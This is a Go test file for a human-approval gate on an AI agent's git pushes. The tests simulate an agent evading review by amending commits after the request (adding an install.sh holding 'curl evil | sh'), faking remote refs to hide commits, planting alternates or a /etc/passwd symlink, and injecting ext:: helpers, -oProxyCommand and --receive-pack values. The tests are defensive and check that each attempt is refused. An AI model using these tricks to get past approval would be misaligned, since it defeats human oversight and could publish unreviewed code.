package gate

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cordonhq/cordon/contract"
)

func gateTo(url string, spec string) contract.Gate {
	return contract.Gate{Name: "push", Run: []string{"git", "push", url, spec}, Approve: contract.ApproveHuman, Why: "t",
		Timeout:    contract.Duration(time.Minute),
		Credential: &contract.Credential{Name: "GITHUB_PUSH", Provider: "local", Deliver: contract.DeliverGate}}
}

// TestPushPinnedRefusesMovedRefs: the agent amends HEAD while the request waits; the
// approval pushes nothing, because what was shown is not what would be pushed.
func TestPushPinnedRefusesMovedRefs(t *testing.T) {
	f := newFixture(t)
	rec, m := &recorder{}, &minter{}
	s := newService(f, rec, m, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	writeScript(t, filepath.Join(f.ws, "install.sh"), "curl evil | sh")
	runGit(t, f.ws, "add", "install.sh")
	runGit(t, f.ws, "commit", "-q", "--amend", "-m", "agent work")
	if err := s.Approve(context.Background(), p.ID, "alice"); err != nil {
		t.Fatal(err)
	}
	r := <-ch
	if r.out.ExitCode != exitCannotRun || !strings.Contains(r.out.Output, "changed since the request") {
		t.Fatalf("outcome = %+v", r.out)
	}
	if f.branch(t) != "" || m.minted.Load() != 0 || len(f.srv.Passwords()) != 0 {
		t.Error("a moved repository was pushed, or a credential minted")
	}
}

// TestPushRefusesTransports: only https and ssh (and http to loopback) are pushed to;
// a local path, file://, ext::, git:// or plain http elsewhere is refused when asked,
// before anyone approves, whether the contract names it or the repository's remote does.
func TestPushRefusesTransports(t *testing.T) {
	f := newFixture(t)
	local := filepath.Join(t.TempDir(), "local.git")
	runGit(t, f.ws, "init", "-q", "--bare", local)
	runGit(t, f.ws, "remote", "add", "origin", local)
	runGit(t, f.ws, "remote", "add", "helper", "ext::sh -c touch% "+f.marks+"/ext")
	for url, why := range map[string]string{
		local:                          "local path",
		"file://" + local:              "file transport",
		"ext::sh -c touch% /tmp/x":     "transport helper",
		"git://example.com/r.git":      "git transport",
		"http://example.com/r.git":     "plain http",
		"https://u:pw@example.com/r":   "carries a password",
		"origin":                       "local path",
		"helper":                       "transport helper",
		"nosuch":                       "no remote",
		"./relative":                   "local path",
		"-oProxyCommand=x:y":           "refused",
		"https://example.com/r.git -f": "refused",
	} {
		s := New(Config{RunID: testRun, Workspace: f.ws, Gates: []contract.Gate{gateTo(url, "HEAD:refs/heads/x")}, Mint: (&minter{}).mint})
		out, err := s.Request(context.Background(), "push", "")
		s.Close()
		if err != nil || out.Approved || !strings.Contains(out.Why, why) {
			t.Errorf("%s: got %+v, %v; want refused (%s)", url, out, err, why)
		}
	}
	if f.marker("ext") {
		t.Error("the ext:: remote ran")
	}
}

func TestParsePush(t *testing.T) {
	for _, tc := range []struct {
		argv []string
		want string // "" for not a push; "error: …" for a refusal
	}{
		{[]string{"make", "release"}, ""},
		{[]string{"git", "fetch"}, ""},
		{[]string{"git", "-C", "/x", "push", "u", "a"}, "error: git options before"},
		{[]string{"git", "push", "u"}, "error: needs a remote and at least one refspec"},
		{[]string{"git", "push", "--receive-pack=x", "u", "a"}, "error: --receive-pack=x is refused"},
		{[]string{"git", "push", "--mirror", "u"}, "error: --mirror is refused"},
		{[]string{"git", "push", "u", "refs/heads/*:refs/heads/*"}, "error: refspec"},
		{[]string{"git", "push", "-f", "u", "+HEAD:main", ":old"}, "u [-f] +HEAD:main :old"},
	} {
		p, err := parsePush(tc.argv)
		got := ""
		switch {
		case err != nil:
			got = "error: " + err.Error()
		case p != nil:
			got = fmt.Sprintf("%s %v", p.remote, p.flags)
			for _, r := range p.refs {
				got += " " + map[bool]string{true: "+"}[r.Force] + r.Src + ":" + r.Dst
			}
		}
		if !strings.Contains(got, strings.TrimPrefix(tc.want, "error: ")) || strings.HasPrefix(tc.want, "error: ") != strings.HasPrefix(got, "error: ") || (tc.want == "" && got != "") {
			t.Errorf("%q: got %q, want %q", tc.argv, got, tc.want)
		}
	}
}

// TestPushListsEveryCommit: the preview lists every commit the push publishes, however
// the agent dresses the repository: a fake remote-tracking ref made after the run
// started hides nothing.
func TestPushListsEveryCommit(t *testing.T) {
	f := newFixture(t)
	runGit(t, f.ws, "update-ref", "refs/remotes/origin/main", "HEAD") // what the remote had at start
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	defer s.Close()
	s.Snapshot(context.Background())
	for i := 0; i < 30; i++ {
		runGit(t, f.ws, "commit", "-q", "--allow-empty", "-m", fmt.Sprintf("agent commit %d", i))
	}
	runGit(t, f.ws, "update-ref", "refs/remotes/origin/main", "HEAD") // the agent's fake
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	assertHas(t, "preview", p.Preview, "commits the push would publish (30, every one")
	for i := 0; i < 30; i++ {
		assertHas(t, "preview", p.Preview, fmt.Sprintf("agent commit %d\n", i))
	}
	if strings.Contains(p.Preview, " agent work\n") {
		t.Errorf("the preview lists a commit the remote had at the start:\n%s", p.Preview)
	}
	if err := s.Deny(p.ID, "bob", "no"); err != nil {
		t.Fatal(err)
	}
	<-ch
}

// TestPushRefusesBorrowedObjects: objects lent by another repository (alternates, a
// link among the packs) would let a push publish what the sandbox never could read.
func TestPushRefusesBorrowedObjects(t *testing.T) {
	for name, plant := range map[string]func(f fixture){
		"alternates": func(f fixture) {
			writeScript(t, filepath.Join(f.ws, ".git", "objects", "info", "alternates"), "")
		},
		"link": func(f fixture) {
			if err := os.Symlink("/etc/passwd", filepath.Join(f.ws, ".git", "objects", "pack", "pack-0.pack")); err != nil {
				t.Fatal(err)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
			defer s.Close()
			ch := asyncRequest(context.Background(), s)
			p := waitPending(t, s)
			plant(f)
			if err := s.Approve(context.Background(), p.ID, "alice"); err != nil {
				t.Fatal(err)
			}
			if r := <-ch; r.out.ExitCode != exitCannotRun || !strings.Contains(r.out.Output, "lend another repository's objects") {
				t.Fatalf("outcome = %+v", r.out)
			}
			if f.branch(t) != "" {
				t.Error("pushed")
			}
		})
	}
}

// TestPreviewRunsNoRepositoryProgram: a textconv or filter the repository names (a
// widened .git) would run during the preview's own git commands: none runs, the push
// is still pinned and shown, and the preview says why git was not run.
func TestPreviewRunsNoRepositoryProgram(t *testing.T) {
	f := newFixture(t)
	prog := filepath.Join(t.TempDir(), "prog")
	writeScript(t, prog, "touch "+f.marks+"/ran; cat")
	runGit(t, f.ws, "config", "diff.evil.textconv", prog)
	runGit(t, f.ws, "config", "filter.evil.clean", prog)
	if err := os.WriteFile(filepath.Join(f.ws, ".gitattributes"), []byte("* diff=evil filter=evil\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	runGit(t, f.ws, "add", ".gitattributes")
	runGit(t, f.ws, "commit", "-q", "-m", "attributes")
	os.Remove(filepath.Join(f.marks, "ran")) // the fixture's own commit ran it
	// Same size, new time: git status must read the file through the clean filter.
	future := time.Now().Add(time.Hour)
	if err := os.Chtimes(filepath.Join(f.ws, "README"), future, future); err != nil {
		t.Fatal(err)
	}
	s := newService(f, &recorder{}, &minter{}, Ask, contract.ApproveHuman)
	defer s.Close()
	ch := asyncRequest(context.Background(), s)
	p := waitPending(t, s)
	assertHas(t, "preview", p.Preview, "git was not run for this preview")
	assertHas(t, "preview", p.Preview, "commits the push would publish (2, every one")
	if f.marker("ran") {
		t.Fatal("the preview ran a program the repository's configuration names")
	}
	if err := s.Deny(p.ID, "bob", "no"); err != nil {
		t.Fatal(err)
	}
	<-ch
}
